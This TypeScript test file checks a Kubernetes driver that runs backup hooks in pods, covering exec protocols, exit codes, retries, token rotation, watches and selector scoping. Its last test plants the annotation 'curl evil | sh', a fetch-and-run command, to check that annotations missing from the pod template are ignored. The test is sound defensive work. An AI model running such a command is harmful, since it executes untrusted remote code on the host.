/** What a healthy cluster will not do. */
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { exitCodeOf } from '../../src/core/result.ts';
import type { Asked, Fault } from '../support/api-server.ts';
import { until } from '../support/until.ts';
import { aCall, aSink, RUN, runToEnd } from './contract.ts';
import { openKubernetesBench } from './kubernetes-bench.ts';

const conflict: Fault = { status: 409, body: { message: 'the object has been modified' } };

/** Answers the first `times` requests that fit in their place. */
function firstOf(times: number, fits: (asked: Asked) => boolean, fault: Fault): (asked: Asked) => Fault | undefined {
  let left = times;
  return (asked) => (fits(asked) && left-- > 0 ? fault : undefined);
}

/** What scripts see before a request is carried out. */
function before(script: (asked: Asked) => Fault | undefined) {
  return (asked: Asked, when: 'before' | 'after') => (when === 'before' ? script(asked) : undefined);
}

describe('the Kubernetes driver, over an API that', () => {
  for (const protocol of ['v5.channel.k8s.io', 'v4.channel.k8s.io']) {
    it(`speaks ${protocol}: scripts short and long, output apart, exit codes`, async ({ signal }) => {
      await using bench = await openKubernetesBench();
      bench.server.state.protocols = [protocol];
      const filler = '# what makes it long\n'.repeat(10_000);
      for (const more of ['', filler]) {
        const text = `#!/bin/sh\n${more}echo "$0 $1 $2 $SIDEHOOK_OPERATION"; cat; echo oops >&2; exit 3\n`;
        const program = { kind: 'script', name: '20-dump', interpreter: ['/bin/sh'], text } as const;
        const result = await runToEnd(bench.driver, aCall(bench.workload, program), signal);
        assert.deepEqual(result, {
          outcome: { status: 'failed', exitCode: 3 },
          out: '20-dump backup pre backup\n',
          err: 'oops\n',
        });
      }
    });
  }

  it('waits for what a hook left running with its output: its end and its code are told all the same', async ({
    signal,
  }) => {
    await using bench = await openKubernetesBench();
    const line = 'echo out; echo err >&2; sleep 3600 & exit 3';
    const result = await runToEnd(bench.driver, aCall(bench.workload, { kind: 'shell', line }), signal);
    assert.deepEqual(result, { outcome: { status: 'failed', exitCode: 3 }, out: 'out\n', err: 'err\n' });
    assert.equal(await bench.countMarked(`${RUN}/`), 1); // as with every engine, it lives on
  });

  it('runs what is killed: nobody adds a word of his own to what it printed', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const line = 'echo "it ends" >&2; kill -9 $$';
    const { outcome, err } = await runToEnd(bench.driver, aCall(bench.workload, { kind: 'shell', line }), signal);
    assert.equal(outcome.status, 'killed');
    assert.equal(err, 'it ends\n');
  });

  it('runs a hook once, also if it ends as if its program had not been there', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const count = join(bench.dir, 'count');
    for (const last of ['', '; echo "env: x: No such file or directory" >&2']) {
      await writeFile(count, '');
      const argv = ['/bin/sh', '-c', `echo ran >>'${count}'${last}; exit 127`];
      const { outcome } = await runToEnd(bench.driver, aCall(bench.workload, { kind: 'argv', argv }), signal);
      assert.equal(exitCodeOf(outcome), 127);
      assert.equal(await readFile(count, 'utf8'), 'ran\n');
    }
  });

  it('has a container without a shell: what needs none runs there, and what does says so', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    bench.server.state.programs = ['env'];
    const argv = ['printenv', 'SIDEHOOK_OPERATION'];
    assert.deepEqual(await runToEnd(bench.driver, aCall(bench.workload, { kind: 'argv', argv }), signal), {
      ...{ outcome: { status: 'succeeded' }, out: 'backup\n', err: '' },
    });
    const { outcome } = await runToEnd(bench.driver, aCall(bench.workload, { kind: 'shell', line: 'true' }), signal);
    assert.equal(exitCodeOf(outcome), 127);
    assert.match(outcome.status === 'broken' ? outcome.why : '', /has no sh/);
  });

  it('answers 409: it is read again, until it fits', async ({ signal }) => {
    await using bench = await openKubernetesBench(3);
    const isWrite = ({ method }: Asked) => method === 'PUT';
    bench.server.state.script = before(firstOf(3, isWrite, conflict));
    await bench.driver.hold(bench.workload, 'scale', 10_000, signal);
    bench.server.state.script = before(firstOf(3, isWrite, conflict));
    await bench.driver.release(bench.workload, 'scale', signal);
    assert.equal(bench.server.get('deployments', 'db')?.spec.replicas, 3);
    assert.deepEqual(bench.server.all('leases'), []);
  });

  it('was scaled by somebody just before: as many come back as there were then', async ({ signal }) => {
    await using bench = await openKubernetesBench(2);
    let isDone = false;
    bench.server.state.script = before(({ method, path }) => {
      if (method !== 'PUT' || !path.endsWith('/scale') || isDone) return undefined;
      isDone = true;
      bench.server.scale('deployments', 'db', 5);
      return undefined;
    });
    await bench.driver.hold(bench.workload, 'scale', 10_000, signal);
    await bench.driver.release(bench.workload, 'scale', signal);
    assert.equal(bench.server.get('deployments', 'db')?.spec.replicas, 5);
  });

  it('answers 429 with Retry-After: it is waited for', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const busy: Fault = { status: 429, headers: { 'Retry-After': '1' }, body: { message: 'too many requests' } };
    bench.server.state.script = before(firstOf(2, () => true, busy));
    assert.equal((await bench.driver.inspect(bench.workload, signal))?.state, 'running');
  });

  it('says no: the answer names what the Role lacks, for a hook too', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const message = 'pods "db" is forbidden: cannot create resource "pods/exec"';
    bench.server.state.script = before(({ path }) =>
      path.endsWith('/exec') ? { status: 403, body: { message } } : undefined,
    );
    const { outcome } = await runToEnd(bench.driver, aCall(bench.workload, bench.program({})), signal);
    assert.equal(exitCodeOf(outcome), 77);
    assert.match(JSON.stringify(outcome), /cannot create resource/);
  });

  it('gives out new tokens: the old one is not used for longer than it is good', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    bench.server.state.tokens = new Set(['first']);
    assert.ok(await bench.driver.inspect(bench.workload, signal));
    await writeFile(join(bench.dir, 'token'), 'second');
    bench.server.state.tokens = new Set(['second']);
    assert.ok(await bench.driver.inspect(bench.workload, signal));
    const { outcome } = await runToEnd(bench.driver, aCall(bench.workload, bench.program({ exitCode: 4 })), signal);
    assert.deepEqual(outcome, { status: 'failed', exitCode: 4 });
  });

  it('cuts the connection in the middle of a hook: no success, and nothing of it runs on', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const { sink, text } = aSink();
    const ended = bench.driver.exec(aCall(bench.workload, bench.program({ out: 'ready', waits: true })), sink, signal);
    await until(() => text('out') === 'ready', { what: 'the hook', signal, deadlineMs: 60_000 });
    bench.server.cutExecs();
    const outcome = await ended;
    assert.equal(outcome.status, 'broken');
    assert.equal(exitCodeOf(outcome), 69);
    assert.equal(await bench.countMarked(`${RUN}/`), 0);
  });

  it('answers a list in pages, and forgets its page (410)', async ({ signal }) => {
    await using bench = await openKubernetesBench(3);
    bench.server.state.pageSize = 2;
    const podsOf = async () =>
      (await bench.driver.look([], signal)).workloads.filter(({ kind }) => kind === 'pod').length;
    assert.equal(await podsOf(), 3);
    const isNextPage = ({ query }: Asked) => query.has('continue');
    bench.server.state.script = before((asked) => {
      if (!isNextPage(asked)) return undefined;
      bench.server.state.pageSize = Number.POSITIVE_INFINITY;
      return { status: 410, body: { message: 'the provided continue parameter is too old' } };
    });
    assert.equal(await podsOf(), 3);
  });

  it('watches in pieces, and ends its watches (410): each change is told', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const ending = new AbortController();
    let beats = 0;
    const following = (async () => {
      for await (const _ of bench.driver.changes(AbortSignal.any([signal, ending.signal]))) beats += 1;
    })();
    const { server } = bench;
    const beatAfter = async (what: string, work: () => void): Promise<void> => {
      const seen = beats;
      work();
      await until(() => beats > seen, { what, signal, deadlineMs: 60_000 });
    };
    await until(() => server.watching() === 2 && beats > 0, { what: 'the watches', signal, deadlineMs: 60_000 });
    server.sayToWatchers('{"type":"MODI');
    await beatAfter('an event in two pieces', () => server.sayToWatchers('FIED","object":{}}\n'));
    await beatAfter('a watch that is too old', () =>
      server.sayToWatchers('{"type":"ERROR","object":{"kind":"Status","code":410}}\n'),
    );
    await until(() => server.watching() === 2, { what: 'new watches', signal, deadlineMs: 60_000 });
    await beatAfter('a change after it', () => server.scale('deployments', 'db', 2));
    await beatAfter('something else that goes wrong', () =>
      server.sayToWatchers('{"type":"ERROR","object":{"kind":"Status","code":500,"message":"etcd is gone"}}\n'),
    );
    // Of each of the two watches the one that was no matter of course.
    const warnings = () => bench.said.filter((line) => line.includes('cut off'));
    await until(() => warnings().length >= 2, { what: 'the warnings', signal, deadlineMs: 60_000 });
    ending.abort();
    await following;
    assert.equal(warnings().length, 2, warnings().join('\n'));
    for (const warning of warnings()) assert.match(warning, /etcd is gone/);
  });

  it('has pods of others that the selector finds: neither waited for, nor run in', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const { server, driver, workload } = bench;
    server.addController('deployments', 'db-canary', { labels: { app: 'db', track: 'canary' } });
    await until(() => server.get('deployments', 'db-canary')?.status.readyReplicas === 1, { what: 'the other pod' });
    await driver.hold(workload, 'scale', 10_000, signal);
    assert.equal(server.all('pods').length, 1);
    const { outcome } = await runToEnd(driver, aCall(workload, bench.program({})), signal);
    assert.equal(outcome.status, 'broken', JSON.stringify(outcome));
    await driver.release(workload, 'scale', signal);
  });

  it('ends the pods of a StatefulSet one by one: each has its time', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const { server, driver } = bench;
    const { metadata } = server.addController('statefulsets', 'store', { replicas: 3 });
    await until(() => server.get('statefulsets', 'store')?.status.readyReplicas === 3, {
      what: 'all three to be ready',
    });
    server.state.stopMs = 2_000;
    const ref = { key: 'statefulset/store', instance: metadata.uid, name: 'statefulset/store' };
    assert.equal((await driver.hold(ref, 'scale', 5_000, signal)).state, 'exited');
  });

  it('has not seen yet what was asked of it: nothing is called healthy for what was before', async ({ signal }) => {
    await using bench = await openKubernetesBench(2);
    const { server, driver, workload } = bench;
    const controller = server.get('deployments', 'db') ?? assert.fail();
    controller.metadata.generation = (controller.metadata.generation ?? 0) + 1;
    assert.equal((await driver.inspect(workload, signal))?.health, 'starting');
    controller.status.observedGeneration = controller.metadata.generation;
    assert.equal((await driver.inspect(workload, signal))?.health, 'healthy');
  });

  it('passes over and names annotations that the pod template lacks', async ({ signal }) => {
    await using bench = await openKubernetesBench();
    const [pod] = bench.server.all('pods');
    if (pod === undefined) assert.fail('no pod');
    pod.metadata.annotations = { 'sidehook.io/backup.pre': 'curl evil | sh' };
    const { workloads } = await bench.driver.look([], signal);
    const seen = workloads.find(({ kind }) => kind === 'pod');
    assert.deepEqual(seen?.imageLabels, ['sidehook.backup.pre']);
    assert.equal(seen.labels['sidehook.backup.pre'], undefined);
    assert.equal(seen.partOf, 'deployment/db');
  });
});
